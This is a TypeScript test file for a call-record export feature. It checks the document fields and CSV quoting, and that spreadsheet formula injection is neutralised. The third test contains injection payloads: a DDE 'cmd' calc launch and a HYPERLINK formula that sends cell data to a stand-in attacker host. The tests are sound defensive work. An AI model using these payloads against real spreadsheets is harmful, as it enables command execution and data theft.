import { describe, expect, test } from 'bun:test'
import { exportDocument } from '../../../src/features/calls/records/index.ts'
import { csvLine } from '../../../src/features/calls/records/export-document.ts'
import type { CallRow } from '../../../src/features/calls/index.ts'

const row: CallRow = {
  id: 'call_1', workspace_id: 'ws_1', agent_id: 'agent_1', agent_name: 'Reception (at call time)', phone_number_id: 'num_1', type: 'outbound',
  from_number: '+14155550100', to_number: '+14155550123', status: 'ended', outcome: 'completed', end_reason: 'agent_hangup', sip_call_id: null,
  variables: '{}', transcript: JSON.stringify([{ role: 'user', text: 'hi, "there"', timestamp: 1.5 }]), tool_calls: '[]', metrics: '{}', cost: '{"llm":0.5,"tts":0,"stt":0,"telephony":0.25,"total":0.75}',
  recording_path: null, created_at: '2026-11-23T10:00:00.000Z', started_at: '2026-11-23T10:00:00.000Z', answered_at: '2026-11-23T10:00:02.000Z',
  ended_at: '2026-11-23T10:01:00.000Z', duration_sec: 58, outbound_job_id: 'job_1', outbound_contact_id: 'ct_1', answered_by: 'machine', node_id: null,
    test_draft: 'false', media: null,
}

describe('export document', () => {
  test('a call with no analysis yet is pending, takes isVoicemail from detection, and has zero metrics rather than missing ones', () => {
    const d = exportDocument(row, { analysis: undefined, evaluations: [], labels: ['vip'], recordingUrl: null })
    expect(d.call).toMatchObject({ id: 'call_1', agentName: 'Reception (at call time)', campaignId: 'job_1', answeredBy: 'machine', duration: 58 })
    expect(d.analysis).toMatchObject({ status: 'pending', summary: '', sentiment: null, isVoicemail: true })
    expect(d.metrics).toMatchObject({ totalTokens: 0, model: '', latencyP50: 0, latencyP99: 0, ttsDuration: 0, turns: [] })
    expect(d.cost).toEqual({ llm: 0.5, tts: 0, stt: 0, telephony: 0.25, analysis: 0, total: 0.75 })
    expect(d.labels).toEqual(['vip'])
  })

  test('CSV quotes commas, quotes and line breaks, and keeps the transcript as JSON text', () => {
    const line = csvLine(exportDocument(row, { analysis: undefined, evaluations: [], labels: ['a', 'b'], recordingUrl: null }))
    expect(line.endsWith('\r\n')).toBe(true)
    expect(line).toContain('"[{""role"":""user"",""text"":""hi, \\""there\\"""",""timestamp"":1.5}]"')
    expect(line).toContain(',"a;b",')
    // text is quoted; a phone number's leading + is text a spreadsheet would evaluate, so it gets the '
    expect(line.startsWith(`"call_1","agent_1","Reception (at call time)","outbound","'+14155550100","'+14155550123","completed",`)).toBe(true)
  })

  test('CSV neutralises formulas in every text cell and in each label, and keeps numbers as numbers', () => {
    const formula = { ...row, agent_name: '@SUM(1+1)', metrics: JSON.stringify({ model: '=cmd|\' /C calc\'!A0', totalTokens: 7 }) }
    const probe = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    const line = csvLine(exportDocument(formula, { analysis: undefined, evaluations: [], labels: ['ok', probe], recordingUrl: null }))
    expect(line).toContain(`,"'@SUM(1+1)",`)
    expect(line).toContain(`,"'=cmd|' /C calc'!A0",`)
    expect(line).toContain(`,"ok;'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`)
    expect(line).toContain(',7,')
  })
})
